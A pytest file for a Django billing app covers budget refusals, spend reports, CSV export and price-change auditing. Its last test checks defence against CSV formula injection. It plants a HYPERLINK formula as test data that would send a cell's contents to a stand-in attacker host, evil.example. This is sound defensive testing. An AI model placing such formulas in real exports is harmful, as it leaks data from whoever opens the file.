import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model

from analysis.models import Execution, Message, Session
from approvals.models import ApprovalRequest
from audit.models import AuditEvent
from billing.models import CostSpan, Price, Reservation
from billing.services import BudgetExceeded, budget_reserve, price_save
from tests.billing.conftest import team_budget, user_budget
from tests.factories import ApprovalRequestFactory

REFUSAL_FIELDS = {"code", "message", "scope", "limitUsd", "spentUsd", "reservedUsd", "resetsAt"}


def span(request, user, model, cost, feature="generation"):
    return CostSpan.objects.create(
        provider="mistral",
        model=model,
        cost_usd=Decimal(cost),
        tenant=request.team,
        user=user,
        feature=feature,
        request=request,
    )


def test_analyze_over_budget_answers_402_and_writes_nothing(as_user, analyst, team, settings, prices):
    settings.MISTRAL_API_KEY = "test-key"  # priced as mistral-large-latest; nothing is generated here
    team_budget(team, "0.001")
    response = as_user(analyst).post("/api/analyze", {"query": "plot revenue by region"}, format="json")
    assert response.status_code == 402
    error = response.json()["error"]
    assert set(error) == REFUSAL_FIELDS
    assert (error["code"], error["scope"], error["limitUsd"]) == ("budget_exceeded", "team", "0.001000")
    assert error["resetsAt"].endswith("T00:00:00+00:00")
    assert not (ApprovalRequest.objects.exists() or Session.objects.exists() or Message.objects.exists())
    assert not Reservation.objects.exists()
    (event,) = AuditEvent.objects.filter(action=AuditEvent.Action.BUDGET_REFUSED)
    assert event.actor == analyst and event.details["limitUsd"] == "0.001000"


def test_execute_over_budget_answers_402_and_the_request_stays_approved(as_user, analyst, team, prices):
    request = ApprovalRequestFactory(user=analyst, team=team, status=ApprovalRequest.Status.APPROVED)
    budget = user_budget(team, analyst, "0.001")
    response = as_user(analyst).post("/api/execute", {"requestId": str(request.pk)}, format="json")
    assert response.status_code == 402
    assert response.json()["error"]["scope"] == "user"
    request.refresh_from_db()
    assert request.status == ApprovalRequest.Status.APPROVED
    assert not Execution.objects.exists() and not budget.periods.filter(reserved_nanos__gt=0).exists()


def test_execute_within_budget_holds_the_runs_estimate(
    as_user, analyst, team, prices, django_capture_on_commit_callbacks
):
    request = ApprovalRequestFactory(user=analyst, team=team, status=ApprovalRequest.Status.APPROVED)
    team_budget(team, "10")
    with django_capture_on_commit_callbacks():
        response = as_user(analyst).post("/api/execute", {"requestId": str(request.pk)}, format="json")
    assert response.status_code == 202 and response.json()["budgetWarning"] is None
    (reservation,) = Reservation.objects.filter(request=request, feature="execution")
    assert reservation.status == Reservation.Status.ACTIVE and reservation.amount_usd > 0


def test_analyze_answers_with_a_warning_above_the_soft_threshold(as_user, analyst, team, prices):
    team_budget(team, "1.00")
    budget_reserve(team=team, user=analyst, feature="generation", amount=Decimal("0.90"))
    response = as_user(analyst).post("/api/analyze", {"query": "count rows"}, format="json")
    assert response.status_code == 202
    warning = response.json()["budgetWarning"]
    assert (warning["scope"], warning["remainingUsd"]) == ("team", "0.10000000")
    assert "80%" in warning["message"]


def test_budget_lists_each_budget_that_applies_to_me(as_user, analyst, reviewer, team, other_team):
    team_budget(team, "5")
    user_budget(team, analyst, "2", period="daily")
    user_budget(team, reviewer, "9")  # someone else's
    team_budget(other_team, "7")  # not my team
    budget_reserve(team=team, user=analyst, feature="generation", amount=Decimal("0.5"))
    body = as_user(analyst).get("/api/budget").json()["results"]
    assert [(b["scope"], b["limitUsd"]) for b in body] == [("team", "5.000000"), ("user", "2.000000")]
    mine = body[1]
    assert (mine["reservedUsd"], mine["remainingUsd"], mine["period"]) == ("0.500000", "1.500000", "daily")
    assert mine["resetsAt"].endswith("T00:00:00Z")


@pytest.fixture
def spend(team, other_team, analyst, reviewer):
    mine = ApprovalRequestFactory(user=analyst, team=team)
    theirs = ApprovalRequestFactory(user=reviewer, team=team)
    elsewhere = ApprovalRequestFactory(team=other_team)
    span(mine, analyst, "mistral-large-latest", "0.5")
    span(mine, analyst, "sandbox", "0.25", feature="execution")
    span(theirs, reviewer, "mistral-small-latest", "1")
    span(elsewhere, elsewhere.user, "mistral-large-latest", "8")


def test_analysts_see_their_own_spend_and_reviewers_their_teams(as_user, analyst, reviewer, spend):
    mine = as_user(analyst).get("/api/spend?groupBy=model").json()["results"]
    assert [(r["model"], r["costUsd"]) for r in mine] == [
        ("mistral-large-latest", "0.50000000"),
        ("sandbox", "0.25000000"),
    ]
    team = as_user(reviewer).get("/api/spend?groupBy=user").json()["results"]
    assert [(r["user"], r["costUsd"]) for r in team] == [("ann", "0.75000000"), ("rita", "1.00000000")]


def test_spend_exports_csv_when_asked(as_user, reviewer, spend):
    response = as_user(reviewer).get("/api/spend?groupBy=feature", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "spend-by-feature.csv" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["feature"], r["costUsd"], r["calls"]) for r in rows] == [
        ("execution", "0.25000000", "1"),
        ("generation", "1.50000000", "2"),
    ]


def test_spend_csv_is_its_own_operation_and_its_errors_stay_json(as_user, reviewer, spend):
    response = as_user(reviewer).get("/api/spend.csv?groupBy=feature")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="spend-by-feature.csv"'
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["feature"], r["costUsd"]) for r in rows] == [
        ("execution", "0.25000000"),
        ("generation", "1.50000000"),
    ]
    # Whatever the client's Accept says, the answer is CSV; an error is the API's JSON error.
    assert (
        as_user(reviewer)
        .get("/api/spend.csv", HTTP_ACCEPT="application/json")["Content-Type"]
        .startswith("text/csv")
    )
    refused = as_user(reviewer).get("/api/spend.csv?from=yesterday")
    assert refused.status_code == 400 and refused["Content-Type"] == "application/json"
    assert refused.json()["error"]["fields"] == {"from": [refused.json()["error"]["fields"]["from"][0]]}
    assert "from" in refused.json()["error"]["message"]


def test_an_invalid_spend_parameter_is_named_as_the_request_names_it(as_user, analyst):
    error = as_user(analyst).get("/api/spend?from=2026-01-01&to=tomorrow").json()["error"]
    assert error["code"] == "invalid_input" and list(error["fields"]) == ["to"]
    assert error["message"].startswith("to: ")


def test_spend_of_free_calls_is_written_as_a_plain_decimal(as_user, analyst, team):
    span(ApprovalRequestFactory(user=analyst, team=team), analyst, "offline-rules-v1", "0")
    [row] = as_user(analyst).get("/api/spend?groupBy=model").json()["results"]
    assert row["costUsd"] == "0.00000000"


def test_spend_filters_by_time_range(as_user, reviewer, spend):
    assert as_user(reviewer).get("/api/spend?groupBy=day&to=2000-01-01").json()["results"] == []
    rows = as_user(reviewer).get("/api/spend?groupBy=day&from=2000-01-01").json()["results"]
    assert len(rows) == 1 and rows[0]["costUsd"] == "1.75000000"


def test_spend_rejects_an_unknown_grouping(as_user, analyst):
    response = as_user(analyst).get("/api/spend?groupBy=planet")
    assert response.status_code == 400 and response.json()["error"]["code"] == "invalid_input"


def test_the_admin_spend_page_charts_each_team_and_lists_top_spenders(client, team, spend):
    admin = get_user_model().objects.create_superuser("boss", "boss@example.com", "pw")
    client.force_login(admin)
    page = client.get("/admin/billing/costspan/spend/")
    assert page.status_code == 200
    html = page.content.decode()
    assert html.count('aria-label="Daily spend of') == 2 and "globex" in html and "<td>ann</td>" in html


def test_a_price_change_is_audited(team, prices):
    admin = get_user_model().objects.create_superuser("boss", "boss@example.com", "pw")
    price = Price.objects.get(name="mistral-small-latest")
    price.output_usd_per_mtok = Decimal("0.90")
    price_save(price=price, actor=admin)
    (event,) = AuditEvent.objects.filter(action=AuditEvent.Action.PRICE_CHANGED)
    assert (event.actor, event.details["changed"]) == (admin, ["output_usd_per_mtok"])
    before, after = event.details["before"], event.details["after"]
    assert (before["output_usd_per_mtok"], after["output_usd_per_mtok"]) == ("0.600000", "0.90")


def test_budget_exceeded_is_a_402_application_error(team, analyst):
    team_budget(team, "0")
    with pytest.raises(BudgetExceeded) as refused:
        budget_reserve(team=team, user=analyst, feature="generation", amount=Decimal("0.01"))
    assert refused.value.status_code == 402


def test_analyze_below_every_soft_threshold_skips_the_warnings_budget_query(as_user, analyst, team, prices):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    team_budget(team, "100.00")
    user_budget(team, analyst, "50.00")
    with CaptureQueriesContext(connection) as queries:
        response = as_user(analyst).post("/api/analyze", {"query": "count rows"}, format="json")
    assert response.status_code == 202 and response.json()["budgetWarning"] is None
    # The reservation held against both budgets and said neither is near its threshold: the warning's
    # budget lookup did not run; the one read of billing_budget is the reservation's own.
    budget_reads = [q["sql"] for q in queries.captured_queries if 'FROM "billing_budget"' in q["sql"]]
    assert len(budget_reads) == 1


def test_spend_csv_cells_cannot_become_formulas_in_a_spreadsheet(as_user, team, reviewer):
    from tests.factories import member

    at_user = member(team, user__username="@SUM")  # valid Django usernames may start with @, + or -
    minus_user = member(team, user__username="-2+3")
    formula_model = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    span(ApprovalRequestFactory(user=at_user, team=team), at_user, formula_model, "0.1")
    span(ApprovalRequestFactory(user=minus_user, team=team), minus_user, "mistral-small-latest", "0.2")

    by_user = as_user(reviewer).get("/api/spend?groupBy=user", HTTP_ACCEPT="text/csv")
    rows = list(csv.DictReader(io.StringIO(by_user.content.decode())))
    assert [(r["user"], r["costUsd"]) for r in rows] == [("'-2+3", "0.20000000"), ("'@SUM", "0.10000000")]
    by_model = as_user(reviewer).get("/api/spend?groupBy=model", HTTP_ACCEPT="text/csv")
    models = [r["model"] for r in csv.DictReader(io.StringIO(by_model.content.decode()))]
    assert "'" + formula_model in models and formula_model not in models
    # JSON is data, not a spreadsheet: it keeps the values as they are.
    assert {r["user"] for r in as_user(reviewer).get("/api/spend?groupBy=user").json()["results"]} == {
        "@SUM",
        "-2+3",
    }
